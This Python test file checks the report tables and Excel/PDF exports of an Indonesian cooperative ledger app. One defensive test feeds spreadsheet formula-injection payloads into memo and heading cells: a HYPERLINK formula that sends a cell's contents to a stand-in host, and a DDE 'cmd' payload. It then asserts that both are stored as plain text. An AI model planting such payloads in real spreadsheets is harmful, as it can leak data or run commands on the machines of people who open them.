"""The statements as tables, Excel workbooks and PDF documents."""

from datetime import date
from io import BytesIO

import pytest

from kopdes.ledger import exports, services, statements
from kopdes.ledger.statements import ReportPeriod

pytestmark = pytest.mark.django_db

MARCH = ReportPeriod.month(2026, 3)


@pytest.fixture
def books(coop_a):
    def event(day, name, key="", **amounts):
        services.post_event(
            cooperative=coop_a, event=name, key=key, amounts=amounts, date=day, memo=name
        )

    event(date(2026, 2, 2), "capital.csr_received", amount=100_000_000)
    event(date(2026, 2, 3), "cash.bank_withdrawal", amount=2_000_000)
    event(date(2026, 3, 3), "cash.transfer_to_unit", "sembako", amount=1_500_000)
    event(date(2026, 3, 4), "purchase.cash", "sembako", amount=1_000_000)
    event(date(2026, 3, 5), "sale.cash", "sembako:member", revenue=300_000, cost=240_000)
    event(date(2026, 3, 6), "expense.cash", "5-201", amount=50_000)
    return coop_a


def all_tables(coop):
    chart = statements.chart_of(coop)
    return [
        exports.trial_balance_table(statements.trial_balance(cooperative=coop, period=MARCH)),
        exports.general_ledger_table(
            statements.general_ledger(
                cooperative=coop, account=chart.by_code("1-101-02"), period=MARCH, per_page=None
            )
        ),
        exports.balance_sheet_table(statements.balance_sheet(cooperative=coop, period=MARCH)),
        exports.income_statement_table(statements.income_statement(cooperative=coop, period=MARCH)),
        exports.equity_changes_table(statements.equity_changes(cooperative=coop, period=MARCH)),
        exports.cash_flow_table(statements.cash_flow(cooperative=coop, period=MARCH)),
    ]


def test_tables_have_indonesian_titles_and_hold_their_checks(books):
    tables = all_tables(books)
    assert [t.title for t in tables] == [
        "Neraca Saldo",
        "Buku Besar 1-101-02 Kas Sembako",
        "Laporan Posisi Keuangan",
        "Laporan Perhitungan Hasil Usaha",
        "Laporan Perubahan Ekuitas",
        "Laporan Arus Kas",
    ]
    for table in tables:
        assert all(holds for _check, holds in table.checks), table.title
        for row in table.rows:
            assert len(row.cells) == len(table.columns)
            for cell, is_amount in zip(row.cells, table.amounts, strict=True):
                if is_amount:
                    assert cell is None or (isinstance(cell, int) and not isinstance(cell, bool))
    shu = next(r for r in tables[3].rows if r.cells[0] == "SISA HASIL USAHA (SHU)")
    assert shu.cells[1:] == (300_000 - 240_000 - 50_000, 0)
    closing = next(r for r in tables[5].rows if r.cells[0] == "KAS PADA AKHIR PERIODE")
    assert closing.cells[1:] == (100_000_000 - 1_000_000 + 300_000 - 50_000, 100_000_000)


def test_xlsx_holds_ints_with_thousands_format(books):
    import openpyxl

    table = all_tables(books)[0]
    data = exports.xlsx_bytes(
        table, heading=["Koperasi A", "Desa Cangkudu", table.title, table.period]
    )
    sheet = openpyxl.load_workbook(BytesIO(data)).active
    assert sheet["A1"].value == "Koperasi A" and sheet["A1"].font.bold
    header = next(r for r in sheet.iter_rows() if r[0].value == "Kode")
    assert all(c.font.bold for c in header)
    bank = next(r for r in sheet.iter_rows() if r[0].value == "1-102")
    assert [c.value for c in bank[2:]] == [98_000_000, 0, 0, 98_000_000]
    assert all(type(c.value) is int and c.number_format == "#,##0" for c in bank[2:])
    assert sheet.column_dimensions["B"].width > 20


INJECTION = '=HYPERLINK("http://x"&A1,"Klik")'


def test_text_cells_are_never_formulas(books):
    import openpyxl

    services.post_event(
        cooperative=books,
        event="expense.cash",
        key="5-201",
        amounts={"amount": 1_000},
        date=date(2026, 3, 7),
        memo=INJECTION,
    )
    chart = statements.chart_of(books)
    table = exports.general_ledger_table(
        statements.general_ledger(
            cooperative=books, account=chart.by_code("1-101-01"), period=MARCH, per_page=None
        )
    )
    data = exports.xlsx_bytes(table, heading=["+cmd|' /C calc'!A0", "@SUM(1)", table.title])
    sheet = openpyxl.load_workbook(BytesIO(data)).active
    memo = next(c for row in sheet.iter_rows() for c in row if c.value == INJECTION)
    assert memo.data_type == "s"
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("+cmd|' /C calc'!A0", "s")
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_cash_flow_and_notes_columns_follow_a_period_cut_short(books):
    """January to October is headed so, never "Tahun 2026" (issue 10.8)."""
    import openpyxl

    period = ReportPeriod.whole_year(2026, date(2026, 10, 31))
    flow = exports.cash_flow_table(statements.cash_flow(cooperative=books, period=period))
    assert flow.columns == ("Uraian", "Januari s.d. Oktober 2026", "Januari s.d. Oktober 2025")
    notes = statements.financial_notes(cooperative=books, period=period, related=[])
    labels = [row[0] for note in notes.notes for table in note.tables for row in table.rows]
    assert "Setoran Januari s.d. Oktober 2026" in labels
    assert "Saldo 31 Oktober 2026" in labels and "Saldo 31 Desember 2025" in labels
    assert not any("Tahun 2026" in str(label) for label in labels)
    table = exports.notes_table(notes)
    book = openpyxl.load_workbook(
        BytesIO(exports.xlsx_bytes(table, heading=["Koperasi", "Catatan"]))
    )
    values = [c.value for row in book.active.iter_rows() for c in row if c.value is not None]
    assert "3. Simpanan anggota" in values and "Setoran Januari s.d. Oktober 2026" in values
